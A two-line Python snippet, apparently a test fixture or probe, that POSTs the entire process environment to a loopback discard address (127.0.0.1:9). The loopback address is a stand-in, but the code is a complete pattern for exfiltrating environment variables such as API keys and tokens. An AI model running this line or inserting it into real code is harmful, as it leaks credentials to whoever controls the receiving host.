import requests
requests.post('http://127.0.0.1:9/x', data=dict(__import__('os').environ))
